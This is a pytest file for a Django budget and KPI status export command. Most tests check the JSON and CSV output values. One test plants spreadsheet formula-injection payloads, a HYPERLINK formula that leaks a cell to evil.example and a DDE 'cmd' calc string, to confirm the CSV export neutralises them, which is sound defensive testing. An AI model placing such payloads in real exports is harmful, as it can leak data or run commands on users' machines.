"""export_board (docs/formats.md) on a crafted portfolio: exact keys, statuses and numbers."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

import pytest
from django.core.management import CommandError, call_command

from status.export import CSV_COLUMNS
from status.models import KPIStatus, ProgramStatus
from status.services import status_recompute_all
from tests.status.portfolio import approve

NODE_KEYS = {
    "code",
    "name",
    "amount_won",
    "share_of_parent",
    "share_of_total",
    "status",
    "status_counts",
    "amount_by_status",
}
PROGRAM_KEYS = {"code", "name", "ministry", "start", "end", "status", "budget", "kpis"}
BUDGET_KEYS = {
    "allocated_won",
    "executed_won",
    "execution_rate",
    "expected_share",
    "status",
    "over_executed",
}
KPI_KEYS = {
    "code",
    "name",
    "unit",
    "kind",
    "status",
    "actual",
    "expected",
    "ratio",
    "target",
    "target_date",
    "assessed_at",
    "overdue",
    "forecast_value",
    "forecast_date",
    "forecast_miss",
}


@pytest.fixture
def reported(portfolio):
    p = portfolio
    approve(p, p.a, date(2026, 3, 31), {"A-CUM": 200, "A-LVL": 30}, 200_000_000)
    approve(p, p.a, date(2026, 6, 30), {"A-CUM": 100, "A-LVL": 40}, 150_000_000)
    approve(p, p.b, date(2026, 3, 31), {"B-ANN": 90}, 100_000_000)
    return p


def _export(*args):
    out = io.StringIO()
    call_command("export_board", *args, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
def test_json_export_computes_without_storing_and_has_every_key(reported):
    assert not ProgramStatus.objects.exists()
    err = io.StringIO()
    out = io.StringIO()
    call_command("export_board", "--as-of", "2026-08-15", stdout=out, stderr=err)
    data = json.loads(out.getvalue())
    assert "recomputed today from today's approvals (not stored)" in err.getvalue()
    assert set(data) == {"as_of", "fiscal_year", "nodes", "programs"}
    assert data["fiscal_year"] == 2026
    assert data["as_of"] == "2026-08-15"
    for node in data["nodes"]:
        assert set(node) >= NODE_KEYS
    for program in data["programs"]:
        assert set(program) >= PROGRAM_KEYS
        assert set(program["budget"]) >= BUDGET_KEYS
        for kpi in program["kpis"]:
            assert set(kpi) >= KPI_KEYS
    assert len(data["programs"]) == 3
    # Only the scheduled and triggered recomputes store results.
    assert not ProgramStatus.objects.exists() and not KPIStatus.objects.exists()


@pytest.mark.django_db
def test_json_export_values(reported):
    data = json.loads(_export("--as-of", "2026-08-15", "--format", "json"))
    nodes = {n["code"]: n for n in data["nodes"]}
    programs = {p["code"]: p for p in data["programs"]}
    kpis = {k["code"]: k for p in data["programs"] for k in p["kpis"]}

    # A-CUM: 300 by 30 Jun against 1000 * 181/365 = 495.8904 expected: 0.604972 -> off track.
    # Q2 came due on 30 Jul and has a value: not overdue. Forecast: the line through
    # (90, 200) and (181, 300) reaches 1000 on day 818 (2028-03-28); at 31 Dec (365) it is
    # 502.1978: a miss.
    assert kpis["A-CUM"] == {
        "code": "A-CUM",
        "name": "KPI A-CUM",
        "name_ko": "",
        "unit": "units",
        "kind": "cumulative",
        "status": "off_track",
        "actual": 300,
        "expected": 495.8904,
        "ratio": 0.604972,
        "target": 1000,
        "target_date": "2026-12-31",
        "assessed_at": "2026-06-30",
        "overdue": False,
        "forecast_value": 502.1978,
        "forecast_date": "2028-03-28",
        "forecast_miss": True,
    }
    # A-LVL: level 40 against 100 * 181/365 = 49.5890: 0.806630 -> at risk.
    assert kpis["A-LVL"]["status"] == "at_risk"
    assert kpis["A-LVL"]["actual"] == 40
    assert kpis["A-LVL"]["ratio"] == 0.80663
    # B-ANN: nothing for Q2, which came due on 30 Jul: keeps its status, flagged overdue.
    assert kpis["B-ANN"]["status"] == "on_track"
    assert kpis["B-ANN"]["overdue"] is True
    assert kpis["B-ANN"]["ratio"] == 1.0
    # C starts on 1 Jul; its first period (Q3) comes due on 30 Oct: not started.
    assert kpis["C-CUM"]["status"] == "not_started"

    a = programs["A"]
    assert a["status"] == "off_track"
    assert a["ministry"] == "MSIT" and a["start"] == "2026-01-01" and a["end"] == "2026-12-31"
    # 350,000,000 of 1,000,000,000 by 30 Jun; 181/365 of the year: 0.35 / 0.495890 = 0.705801.
    assert a["budget"] == {
        "allocated_won": 1_000_000_000,
        "executed_won": 350_000_000,
        "execution_rate": 0.35,
        "expected_share": 0.49589,
        "status": "off_track",
        "over_executed": False,
    }
    assert programs["B"]["status"] == "on_track"

    total = nodes["TOTAL"]
    assert total["status"] == "off_track"
    assert total["amount_won"] == 2_000_000_000
    assert total["share_of_parent"] is None and total["share_of_total"] == 1.0
    assert nodes["P1"]["share_of_parent"] == 0.7 and nodes["P2"]["share_of_total"] == 0.3
    assert total["status_counts"] == {
        "not_started": 1,
        "no_data": 0,
        "achieved": 0,
        "on_track": 1,
        "at_risk": 0,
        "off_track": 1,
        "no_kpi": 0,
    }
    assert total["amount_by_status"]["off_track"] == 1_000_000_000
    assert total["amount_by_status"]["on_track"] == 400_000_000
    assert total["amount_by_status"]["not_started"] == 600_000_000
    assert nodes["P2"]["status"] == "not_started"


@pytest.mark.django_db
def test_export_reads_stored_rows_without_recomputing(reported):
    status_recompute_all(as_of=date(2026, 8, 15))
    KPIStatus.objects.filter(kpi__code="A-LVL").update(status="achieved")
    data = json.loads(_export("--as-of", "2026-08-15"))
    kpis = {k["code"]: k for p in data["programs"] for k in p["kpis"]}
    assert kpis["A-LVL"]["status"] == "achieved"


@pytest.mark.django_db
def test_csv_export_one_row_per_kpi(reported):
    rows = list(csv.DictReader(io.StringIO(_export("--as-of", "2026-08-15", "--format", "csv"))))
    assert list(rows[0]) == CSV_COLUMNS
    assert [r["kpi_code"] for r in rows] == ["A-CUM", "A-LVL", "B-ANN", "C-CUM"]
    first = rows[0]
    assert first["program_code"] == "A" and first["program_status"] == "off_track"
    assert first["execution_rate"] == "0.35" and first["ratio"] == "0.604972"
    assert first["overdue"] == "false" and first["forecast_miss"] == "true"
    assert rows[3]["assessed_at"] == ""


@pytest.mark.django_db
def test_bad_date_is_refused():
    with pytest.raises(CommandError, match="--as-of: '2026-13-01' is not a date"):
        _export("--as-of", "2026-13-01")


@pytest.mark.django_db
def test_recompute_status_command_prints_a_summary(reported):
    out = io.StringIO()
    call_command("recompute_status", "--as-of", "2026-08-15", stdout=out)
    text = out.getvalue()
    assert "4 KPIs (4 written), 3 programmes (3 written), 3 budget nodes (3 written)" in text
    out = io.StringIO()
    call_command("recompute_status", "--as-of", "2026-08-15", stdout=out)
    assert "4 KPIs (0 written)" in out.getvalue()


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_and_keeps_negative_numbers(reported):
    node = reported.a
    node.name = '=HYPERLINK("http://evil.example/?leak="&J5,"Click")'
    node.save()
    kpi = reported.a.kpis.get(code="A-CUM")
    kpi.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    kpi.save()
    rows = list(csv.DictReader(io.StringIO(_export("--as-of", "2026-08-15", "--format", "csv"))))
    first = rows[0]
    assert first["program_name"] == "'" + node.name
    assert first["kpi_name"] == "'" + kpi.name
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
